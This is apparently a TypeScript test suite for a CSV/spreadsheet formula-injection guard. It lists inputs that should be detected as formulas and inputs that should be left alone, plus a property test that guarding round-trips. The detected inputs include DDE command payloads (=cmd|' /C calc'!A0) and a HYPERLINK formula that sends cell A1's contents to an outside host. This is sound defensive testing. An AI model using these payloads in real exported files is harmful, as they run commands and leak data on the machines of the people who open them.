import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { guard, isFormula, needsGuard } from '../../src/table/formula.ts'

describe('what a spreadsheet would run', () => {
  // Constants have a value, which would stand there instead of the text.
  const run = [
    `=1+1|=cmd¦' /C calc'!A0|=HYPERLINK("https://example.com?"&A1,"open")|= A1|=x|+1+1|+49-30-123`,
    `-2+3+cmd¦' /C calc'!A0|-A1|+$A$1|-A1:B2|+SUM(A1)|-sum (A1)|-10%-5|-5*2|-5/2|-"5"|+{1,2}`,
    `+'Sheet 1'!A1|-Sheet1!A1|-[book.xlsx]Sheet1!A1|-TRUE|+ false|-WAHR|-faux|+R1C1|-r[1]c|@SUM(1+1)`,
    `@SUM(1+1)*cmd¦' /C calc'!A0|\t=1+1|\r=1+1|\n=1+1| =1+1|\u00a0=1+1|\ufeff=1+1|\u200b@SUM(A1)`,
    '＝1+1|＋A1|－A1|＠SUM(A1)',
  ]

  // Names that no new workbook knows come to nothing: no value, no call, and the text is still in the cell.
  const left = [
    '|=|==|===|-|+|@|-5|- 5|+5.0|-1,234.50|-12%|-1.5e3|-1E-5|+49 30 123|+1 555 0100|+1 (555) 010-0100',
    '+49 (0)30 / 123-456|(555) 010-0100|@name|@first.last|@name and @other|@ann + @bob|- well, yes',
    "- first point\n- second point|-well-known|- I don't know|-5 degrees|+1|+1 from me",
    "-a|- item one|-true story|+foo|-rc|- great!|a=1|1+1|it's = 1|2026-03-01|plain|Größe|東京",
  ]

  const texts = (lines: readonly string[]): readonly string[] =>
    lines.flatMap((line) => line.split('|')).map((text) => text.replace('¦', '|'))

  test.each(texts(run))('%j is guarded', (text) => expect(isFormula(text)).toBe(true))

  test.each(texts(left))('%j is left as it is', (text) => expect(isFormula(text)).toBe(false))

  test('a guarded text is no formula, and comes back by taking one mark off', () => {
    const risky = fc
      .tuple(
        fc.constantFrom('', "'", "''", ' ', '\t'),
        fc.constantFrom('=', '+', '-', '@', '＝'),
        fc.string(),
      )
      .map((parts) => parts.join(''))
    fc.assert(
      fc.property(fc.oneof(risky, fc.string()), (text) => {
        const written = needsGuard(text) ? guard(text) : text
        expect(isFormula(written)).toBe(false)
        const back = written.startsWith("'") && needsGuard(written) ? written.slice(1) : written
        expect(back).toBe(text)
      }),
    )
  })
})
